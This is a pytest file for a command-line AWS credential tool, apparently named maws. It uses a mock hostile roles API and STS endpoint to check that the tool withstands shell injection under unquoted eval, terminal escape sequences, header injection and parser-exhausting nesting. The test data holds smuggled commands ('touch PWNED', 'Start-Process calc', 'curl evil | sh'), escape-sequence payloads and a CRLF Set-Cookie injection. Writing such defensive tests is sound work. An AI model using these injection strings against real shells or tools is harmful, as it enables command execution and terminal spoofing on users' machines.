"""A hostile roles API or STS endpoint: output that stays safe under the documented unquoted
`eval $(maws)`, remote text that never reaches the terminal as escape sequences, and answers built
to exhaust a parser's stack that get a clear error instead."""

import json
import os
import re
import subprocess
from pathlib import Path

import pytest

from maws_stack.server import BackgroundServer

ACCOUNT = "123456789012"


class HostileServices:
    """A roles API and an STS endpoint that answer what the test sets: the threat is the service."""

    def __init__(self):
        self.alias = "maws-demo"
        self.roles_error = None
        self.roles_body = None
        self.sts_body = None
        self.sts_status = "403 Forbidden"

    def __call__(self, environ, start_response):
        path = environ["PATH_INFO"]
        length = int(environ.get("CONTENT_LENGTH") or 0)
        environ["wsgi.input"].read(length)
        if path == "/.well-known/openid-configuration":
            issuer = f"{self.url}"
            body = json.dumps({"issuer": issuer, "authorization_endpoint": f"{issuer}/authorize\r\nSet-Cookie: owned=1",
                               "token_endpoint": f"{issuer}/token", "jwks_uri": f"{issuer}/jwks",
                               "code_challenge_methods_supported": ["S256"]})
            start_response("200 OK", [("Content-Type", "application/json"), ("Content-Length", str(len(body)))])
            return [body.encode()]
        if path == "/roles":
            if self.roles_body:
                body, status = self.roles_body, "200 OK"
            elif self.roles_error:
                body, status = json.dumps({"error": self.roles_error}), "403 Forbidden"
            else:
                body, status = json.dumps({"roles": [f"arn:aws:iam::{ACCOUNT}:role/Admin"], "aliases": {ACCOUNT: [self.alias]}}), "200 OK"
            content_type = "application/json"
        else:
            body, status, content_type = self.sts_body, self.sts_status, "text/xml"
        payload = body.encode()
        start_response(status, [("Content-Type", content_type), ("Content-Length", str(len(payload)))])
        return [payload]


@pytest.fixture(scope="module")
def hostile():
    services = HostileServices()
    server = BackgroundServer(services, "hostile").start()
    services.url = server.url
    yield services
    server.stop()


@pytest.fixture
def hostile_maws(maws, hostile):
    hostile.alias, hostile.roles_error, hostile.roles_body = "maws-demo", None, None
    hostile.sts_body, hostile.sts_status = None, "403 Forbidden"
    maws.write_config(idtoken_for_roles_url=f"{hostile.url}/roles")
    return maws


def sts_error(code, message):
    return (f"<ErrorResponse><Error><Type>Sender</Type><Code>{code}</Code><Message>{message}</Message></Error>"
            "<RequestId>1</RequestId></ErrorResponse>")


def test_a_glob_in_an_account_alias_cannot_run_a_command_under_unquoted_eval(hostile_maws, hostile, stack):
    hostile.alias = "ops * team"
    result = hostile_maws.run("-r", stack.role_arn("Admin"))
    assert result.returncode == 0, result.stderr
    directory = hostile_maws.home / "work"
    directory.mkdir()
    (directory / "x';touch PWNED;'").write_text("")
    script = hostile_maws.home / "out.sh"
    script.write_text(result.stdout)
    shell = subprocess.run(["bash", "-c", f'cd "{directory}" && eval $(cat "{script}") && printf %s "$MAWS_PROMPT"'],
                           env={"PATH": os.environ["PATH"]}, capture_output=True, text=True)
    assert not (directory / "PWNED").exists(), "a file name ran as a command"
    assert shell.returncode == 0, shell.stderr
    assert shell.stdout == "ops---team-Admin"


@pytest.mark.parametrize("shell", ["sh", "fish", "powershell"])
def test_a_line_break_in_an_alias_never_becomes_a_second_command(hostile_maws, hostile, stack, shell):
    hostile.alias = "evil\nStart-Process calc\r\u2028touch PWNED"
    result = hostile_maws.run("--shell", shell, "-r", stack.role_arn("Admin"))
    assert result.returncode == 0, result.stderr
    starts = {"sh": ("export ", "unset "), "fish": ("set -gx ", "set -e "), "powershell": ("$Env:", "Remove-Item ")}[shell]
    lines = result.stdout.split("\n")
    assert lines[-1] == ""
    for line in lines[:-1]:
        assert line.startswith(starts), line
        assert not any(ord(c) < 32 or c in "\u2028\u2029\x85" for c in line), line
    assert "evil-Start-Process-calc--touch-PWNED-Admin" in result.stdout


def test_a_profile_name_unquoted_eval_would_split_is_refused_for_sh_only(maws, stack):
    name = "it's my \"profile\""
    refused = maws.run("-o", "awscli", "--profile", name, "-r", stack.role_arn("Admin"))
    assert refused.returncode == 2
    assert refused.stdout == ""
    assert "the profile name contains a single quote, which the unquoted `eval $(maws)` would split or expand" in refused.stderr
    assert not (maws.home / ".aws").exists(), "nothing is written when the output is refused"

    fish = maws.run("-o", "awscli", "--shell", "fish", "--profile", name, "-r", stack.role_arn("Admin"))
    assert fish.returncode == 0, fish.stderr
    assert f"[{name}]" in (maws.home / ".aws" / "credentials").read_text()
    assert "set -gx AWS_PROFILE 'it\\'s my \"profile\"';" in fish.stdout


def test_a_roles_api_error_reaches_the_terminal_as_one_clean_line(hostile_maws, hostile, stack):
    hostile.roles_error = "\x1b]0;owned\x07denied\x1b[2J\nmaws: error: everything is fine, run curl evil | sh"
    result = hostile_maws.run()
    assert result.returncode == 1
    assert "\x1b" not in result.stderr and "\x07" not in result.stderr
    errors = [line for line in result.stderr.splitlines() if line.startswith("maws: error:")]
    assert errors == ["maws: error: the roles API refused the request (HTTP 403): denied maws: error: everything is fine, run curl evil | sh"]
    # With -r the roles API is only asked for aliases: its failure is a warning, as clean.
    warned = hostile_maws.run("-r", stack.role_arn("Admin"))
    assert warned.returncode == 0, warned.stderr
    assert "\x1b" not in warned.stderr and not any(line.startswith("maws: error:") for line in warned.stderr.splitlines())


def test_an_sts_error_reaches_the_terminal_as_one_clean_line(hostile_maws, hostile, stack):
    hostile_maws.write_config(idtoken_for_roles_url=f"{hostile.url}/roles", sts_endpoint=f"{hostile.url}/sts")
    hostile.sts_body = sts_error("AccessDenied", "&#27;[31mno&#27;]8;;http://evil/&#7;link&#10;maws: fake")
    result = hostile_maws.run("-r", stack.role_arn("Admin"))
    assert result.returncode == 1
    assert "\x1b" not in result.stderr and "\x07" not in result.stderr
    assert len([line for line in result.stderr.splitlines() if "fake" in line]) == 1
    assert "maws: fake" not in result.stderr.splitlines()


def test_sts_keys_with_characters_aws_never_uses_are_refused(hostile_maws, hostile, stack, tmp_path):
    hostile_maws.write_config(idtoken_for_roles_url=f"{hostile.url}/roles", sts_endpoint=f"{hostile.url}/sts")
    hostile.sts_status = "200 OK"
    hostile.sts_body = ("<AssumeRoleWithWebIdentityResponse><AssumeRoleWithWebIdentityResult><Credentials>"
                        "<AccessKeyId>ASIA';touch PWNED;'AAAAAAAA</AccessKeyId><SecretAccessKey>s</SecretAccessKey>"
                        "<SessionToken>t</SessionToken><Expiration>2999-01-01T00:00:00Z</Expiration></Credentials>"
                        "</AssumeRoleWithWebIdentityResult></AssumeRoleWithWebIdentityResponse>")
    result = hostile_maws.run("-o", "awscli", "-r", stack.role_arn("Admin"))
    assert result.returncode == 1
    assert result.stdout == ""
    assert "STS sent an unusable answer: the AccessKeyId is not 16 to 128 capital letters and digits" in result.stderr
    assert "PWNED" not in result.stderr
    assert not (hostile_maws.home / ".aws").exists()


def test_json_outputs_write_slashes_as_aws_tools_do(hostile_maws, hostile, stack):
    hostile_maws.write_config(idtoken_for_roles_url=f"{hostile.url}/roles", sts_endpoint=f"{hostile.url}/sts")
    hostile.sts_status = "200 OK"
    secret = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"
    hostile.sts_body = ("<AssumeRoleWithWebIdentityResponse><AssumeRoleWithWebIdentityResult><Credentials>"
                        f"<AccessKeyId>ASIAIOSFODNN7EXAMPLE</AccessKeyId><SecretAccessKey>{secret}</SecretAccessKey>"
                        "<SessionToken>FwoG/token+x=</SessionToken><Expiration>2999-01-01T00:00:00Z</Expiration></Credentials>"
                        "</AssumeRoleWithWebIdentityResult></AssumeRoleWithWebIdentityResponse>")
    for args in (["-o", "boto", "-r", stack.role_arn("Admin")], ["-o", "js", "-r", stack.role_arn("Admin")],
                 ["credential-process", "--role-arn", stack.role_arn("Admin")]):
        result = hostile_maws.run(*args)
        assert result.returncode == 0, result.stderr
        assert secret in result.stdout and "\\/" not in result.stdout, result.stdout
        assert secret in json.loads(result.stdout).values()


def test_deeply_nested_json_from_the_roles_api_is_a_clear_error(hostile_maws, hostile):
    hostile.roles_body = "[" * 200_000 + "]" * 200_000
    result = hostile_maws.run()
    assert result.returncode == 1, result.stderr
    assert result.stderr.strip().splitlines()[-1] == (
        f"maws: error: the roles API at {hostile.url}/roles sent an unusable answer: expected a JSON object with a 'roles' list; "
        "it nests arrays or objects deeper than 64 levels; check idtoken_for_roles_url")


def test_deeply_nested_xml_from_sts_is_a_clear_error_not_a_crash(hostile_maws, hostile, stack):
    hostile_maws.write_config(idtoken_for_roles_url=f"{hostile.url}/roles", sts_endpoint=f"{hostile.url}/sts")
    hostile.sts_status = "200 OK"
    hostile.sts_body = "<a>" * 200_000 + "</a>" * 200_000
    result = hostile_maws.run("-r", stack.role_arn("Admin"))
    assert result.returncode == 1, f"maws died: {result.returncode}"
    assert result.stderr.strip().splitlines()[-1] == (
        "maws: error: STS sent an unusable answer: the answer is not XML (elements nest deeper than 64 levels); check sts_endpoint")


def test_a_bare_502_from_sts_is_one_line_naming_the_endpoint(hostile_maws, hostile, stack):
    hostile_maws.write_config(idtoken_for_roles_url=f"{hostile.url}/roles", sts_endpoint=f"{hostile.url}/sts")
    hostile.sts_status = "502 Bad Gateway"
    hostile.sts_body = "upstream connect error"
    result = hostile_maws.run("-r", stack.role_arn("Admin"))
    assert result.returncode == 1
    assert result.stderr.strip().splitlines()[-1] == (
        f"maws: error: STS at {hostile.url}/sts answered HTTP 502 (upstream connect error); try again in a moment, or check sts_endpoint")


def test_an_endpoint_with_a_line_break_in_a_discovery_document_is_refused(maws, hostile):
    maws.write_config(well_known_url=f"{hostile.url}/.well-known/openid-configuration")
    result = maws.run("-r", "arn:aws:iam::123456789012:role/Admin")
    assert result.returncode == 1
    errors = [line for line in result.stderr.splitlines() if line.startswith("maws: error:")]
    assert len(errors) == 1 and "authorization_endpoint" in errors[0] and "is not an absolute http(s) URL" in errors[0], result.stderr
    assert "Set-Cookie" not in maws.ua_log.read_text() if maws.ua_log.exists() else True
